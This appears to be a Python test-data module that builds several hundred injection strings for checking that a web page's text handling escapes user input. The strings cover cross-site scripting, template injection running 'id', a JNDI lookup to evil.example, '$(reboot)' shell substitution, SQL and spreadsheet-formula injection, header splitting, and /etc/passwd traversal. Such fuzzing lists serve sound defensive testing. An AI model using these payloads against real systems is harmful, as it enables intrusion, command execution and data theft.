"""Words that try to be code: several hundred, in many syntaxes. All of them are only data here."""

from typing import Final

EVIL: Final = "evil.example"

# What leaves the place where a word stands: text, attribute, comment, element, script, style.
_WAYS_OUT: Final = (
    "", '"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "*/", "</p>", "</bdi>", "</textarea>",
    "</title>", "</script>", "</style>", "</noscript>", "</template>", "</option></select>",
    "</span></button>", '"}]}', "\\\"'>", "\n\n",
)  # fmt: skip

# What runs, fetches or takes the page over, once it is out.
_ACTS: Final = (
    "<script>alert(1)</script>",
    f"<script src=//{EVIL}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    f"<img src=//{EVIL}/pixel>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<iframe src=//{EVIL}></iframe>",
    "<details open ontoggle=alert(1)>",
    f"<style>@import '//{EVIL}/x.css';</style>",
)  # fmt: skip

_BY_HAND: Final = (
    "<ScRiPt>alert(1)</sCrIpT>", "<script\t>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src='x'onerror='alert(1)'>", "<img/src=x/onerror=alert(1)>", "<image href=x onerror=alert(1)>",
    "<body onload=alert(1)>", "<body background=//evil.example/b.png>", "<html onclick=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>",
    "<video src=//evil.example/v.webm autoplay>", "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>x</marquee>",
    "<object data=//evil.example/o></object>", "<embed src=//evil.example/e>",
    "<link rel=stylesheet href=//evil.example/s.css>", "<link rel=preload as=image href=//evil.example/p>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<form action=//evil.example/><button>Send</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "javascript:alert(1)", "javascript://%0aalert(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)", "//evil.example/x", "https://evil.example/x", 'http://evil.example/?"onmouseover=alert(1)',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></use></svg>", "<svg><foreignObject><iframe src=//evil.example>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg/onload='alert&lpar;1&rpar;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext>all the rest", "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>", "<?xml version='1.0'?><script>alert(1)</script>", "<!DOCTYPE html><b>",
    "<!ENTITY x SYSTEM '//evil.example/x'>", "<x onclick=alert(1) style=position:fixed;inset:0>x</x>",
    "<div style='background:url(//evil.example/x)'>", "<p style='behavior:url(x)'>", "expression(alert(1))",
    "x{background:url(//evil.example/x)}", "}*{display:none}", "/*", "@import url(//evil.example/x);",
    '" onmouseover="alert(1)', "' onmouseover='alert(1)", "` onmouseover=`alert(1)", '" autofocus onfocus="alert(1)" x="',
    "' style='position:fixed;inset:0", '" style="background:url(//evil.example/x)', 'x" lang="en" dir="rtl',
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253Ealert(1)", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&amp;lt;script&amp;gt;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", "&NewLine;&Tab;&colon;", "&lt", "&#0;", "&#x202e;",
    "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›", "ʺ><script>alert(1)</script>", "\u2028alert(1)\u2029",
    "<\u200bscript>alert(1)</script>", "<scr\u200dipt>alert(1)</script>", "<s\u0000cript>alert(1)</script>",
    "<img \u00a0src=x onerror=alert(1)>", "\u202e<script>alert(1)</script>\u202c", "\u2066<b>\u2069 isolate",
    "\u200fright <i>to</i> left\u200e", "a\u0301\u0301\u0301<b>", "x\u007f<b>", "\ufeff<b>bom", "\ufffe<b>x",
    "{{ 7 * 7 }}", "{{constructor.constructor('alert(1)')()}}", "{% import os %}{{ os.popen('id') }}", "{{ config.items() }}",
    "${alert(1)}", "#{7*7}", "<%= 7 * 7 %>", "{{{ 7 }}}", "[[${7*7}]]", "%(name)s %(limit)s %s %d", "{0.__class__.__mro__}",
    "${jndi:ldap://evil.example/a}", "$(reboot)", "`reboot`", "; drop table comments; --", "' or '1'='1", '"; alert(1); //',
    "'-alert(1)-'", "\\'-alert(1)//", "</script><script>alert(1)</script>", "<!--<script>", ']}{"text":"<b>"', '","name":"x',
    "*[x](javascript:alert(1))*", "![x](//evil.example/x.png)", "[x]: javascript:alert(1)", "<https://evil.example>",
    "[url=javascript:alert(1)]x[/url]", '=HYPERLINK("//evil.example")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd",
    "\r\nSet-Cookie: x=1", "\r\n\r\n<script>alert(1)</script>", "%0d%0aLocation: //evil.example/", "<esi:include src=//evil.example/>",
    '<!--#include virtual="/etc/passwd" -->', '<!--#exec cmd="id" -->', "../../../etc/passwd", "__proto__", "constructor",
    "?lit$123456$", "<!--?lit$1$-->", "lit$attr$", "${nothing}", "<bdi onclick=alert(1)>", "</bdi><b>bold</b>", "▮<b>▮</b>▮",
    "<yobal-mask>", "<article id=c-x>", "<button form=yobal-reply name=to value=x>", "id=yobal-text", "#yobal-form",
)  # fmt: skip

PAYLOADS: Final = (
    *(f"{way}{act} {number}" for number, way in enumerate(_WAYS_OUT) for act in _ACTS),
    *(f"{number} {words}" for number, words in enumerate(_BY_HAND)),
)  # fmt: skip
